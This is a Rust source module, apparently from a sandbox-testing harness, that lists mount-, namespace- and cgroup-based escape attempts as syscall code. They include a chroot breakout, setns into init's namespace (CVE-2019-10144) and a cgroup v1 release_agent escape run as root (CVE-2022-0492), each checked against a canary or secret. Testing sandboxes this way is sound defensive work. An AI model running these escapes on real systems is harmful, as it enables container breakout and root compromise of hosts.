//! Mounts, roots and namespaces.

use super::{Attack, Attempt, Class, Effect, attack};
use crate::call::{Result, open, put};
use crate::{call, path};

const M: Class = Class::Mounts;

pub(super) const LIST: &[Attack] = &[
    attack(
        "mounted",
        M,
        Effect::Shows("/proc/self/mountinfo", "hostile-mount"),
        "mount a file system on a directory of the host's",
        |it| {
            let at = it.text("mount_point");
            call!(SYS_mount, c"hostile-mount", at, c"tmpfs", 0, 0).map(drop)
        },
    ),
    attack(
        "unmounted",
        M,
        Effect::Lacks("/proc/self/mountinfo", "sandbox-canary"),
        "unmount a file system of the host's",
        |it| call!(SYS_umount2, it.text("mounted"), libc::MNT_DETACH).map(drop),
    ),
    attack("chroot_escaped", M, Effect::Secret, "chroot, then upwards out of it", |it| {
        let inner = path!("{}/{}", it.str("open"), it.name);
        let _ = call!(SYS_mkdirat, libc::AT_FDCWD, &inner, 0o755);
        let here = open(c"/", libc::O_RDONLY | libc::O_DIRECTORY)?;
        call!(SYS_chroot, &inner).or_else(|_| call!(SYS_chroot, c"."))?;
        call!(SYS_fchdir, here)?;
        for _ in 0..16 {
            call!(SYS_chdir, c"..")?;
        }
        call!(SYS_chroot, c".")?;
        it.take_file(it.text("secret"))
    }),
    attack("root_pivoted", M, Effect::Secret, "a mount namespace of its own and pivot_root", pivot),
    attack(
        "namespace_of_init_entered",
        M,
        Effect::Secret,
        "setns to the mount namespace of /proc/1 (CVE-2019-10144 of rkt)",
        |it| {
            let namespace = open(c"/proc/1/ns/mnt", libc::O_RDONLY)?;
            call!(SYS_setns, namespace, libc::CLONE_NEWNS)?;
            it.take_file(it.text("secret"))
        },
    ),
    attack(
        "namespaces_of_process_entered",
        M,
        Effect::Secret,
        "setns to a process's namespaces by its pidfd",
        |it| {
            let pidfd = call!(SYS_pidfd_open, it.process("pid")?, 0)?;
            call!(SYS_setns, pidfd, libc::CLONE_NEWNS | libc::CLONE_NEWNET)?;
            it.take_file(it.text("secret"))
        },
    ),
    attack("tree_cloned", M, Effect::Secret, "open_tree of a directory of the host's", |it| {
        let flags = 1 | libc::O_CLOEXEC;
        let tree = call!(SYS_open_tree, libc::AT_FDCWD, it.text("closed"), flags)?;
        it.take_file_at(tree as i32, c"secret")
    }),
    attack("mount_made_apart", M, Effect::Power, "fsopen and fsmount of a proc of its own", |it| {
        let _ = it;
        let context = call!(SYS_fsopen, c"tmpfs", 0)?;
        call!(SYS_fsconfig, context, 6, 0, 0, 0)?;
        call!(SYS_fsmount, context, 0, 0).map(drop)
    }),
    attack(
        "user_namespace_made",
        M,
        Effect::Power,
        "a user namespace, in which it has every capability",
        |it| {
            call!(SYS_unshare, libc::CLONE_NEWUSER)?;
            call!(SYS_unshare, libc::CLONE_NEWNET | libc::CLONE_NEWNS)?;
            let _ = it;
            Ok(())
        },
    ),
    attack(
        "cgroup_frozen",
        M,
        Effect::Shows("{cgroup}/cgroup.freeze", "1"),
        "freeze a cgroup of the host's",
        |it| put(path!("{}/cgroup.freeze", it.str("cgroup")).as_c_str(), b"1"),
    ),
    attack(
        "cgroup_of_other_pod_limited",
        M,
        Effect::Shows("{cgroup}/pids.max", "77"),
        "change the limits of a cgroup of the host's",
        |it| put(path!("{}/pids.max", it.str("cgroup")).as_c_str(), b"77"),
    ),
    attack(
        "release_agent_run",
        M,
        Effect::Left("open"),
        "a cgroup v1 with a release agent, run by the kernel as root (CVE-2022-0492)",
        release_agent,
    ),
    attack("swap_added", M, Effect::Shows("/proc/swaps", "hostile.swap"), "swapon", |it| {
        call!(SYS_swapon, it.text("swap"), 0).map(drop)
    }),
];

/// The host's mounts come along into a new namespace; below them a new root is found, and the old
/// one has the file.
fn pivot(it: &mut Attempt<'_>) -> Result {
    call!(SYS_unshare, libc::CLONE_NEWNS)?;
    call!(SYS_mount, c"none", c"/", 0, libc::MS_REC | libc::MS_PRIVATE, 0)?;
    call!(SYS_mount, c"none", c"/tmp", c"tmpfs", 0, 0)?;
    call!(SYS_mkdirat, libc::AT_FDCWD, c"/tmp/old", 0o755)?;
    call!(SYS_chdir, c"/tmp")?;
    call!(SYS_pivot_root, c".", c"old")?;
    it.take_file(path!("/old{}", it.str("secret")).as_c_str())
}

/// The kernel starts the agent, a script of the driver's that makes a file of this attempt's name,
/// when the last process has left the group.
fn release_agent(it: &mut Attempt<'_>) -> Result {
    let at = path!("{}/v1", it.str("open"));
    let _ = call!(SYS_mkdirat, libc::AT_FDCWD, &at, 0o755);
    // A private copy of the mounts: that of the hierarchy is gone with the process.
    call!(SYS_unshare, libc::CLONE_NEWNS)?;
    call!(SYS_mount, c"none", c"/", 0, libc::MS_REC | libc::MS_PRIVATE, 0)?;
    call!(SYS_mount, c"none", &at, c"cgroup", 0, c"none,name=hostile")?;
    put(path!("{}/v1/release_agent", it.str("open")).as_c_str(), it.text("agent").to_bytes())?;
    let (open, name) = (it.str("open"), it.name);
    let _ = call!(SYS_mkdirat, libc::AT_FDCWD, &path!("{open}/v1/{name}"), 0o755);
    put(path!("{open}/v1/{name}/notify_on_release").as_c_str(), b"1")?;
    put(path!("{open}/v1/{name}/cgroup.procs").as_c_str(), b"0")?;
    put(path!("{}/v1/cgroup.procs", it.str("open")).as_c_str(), b"0")
}
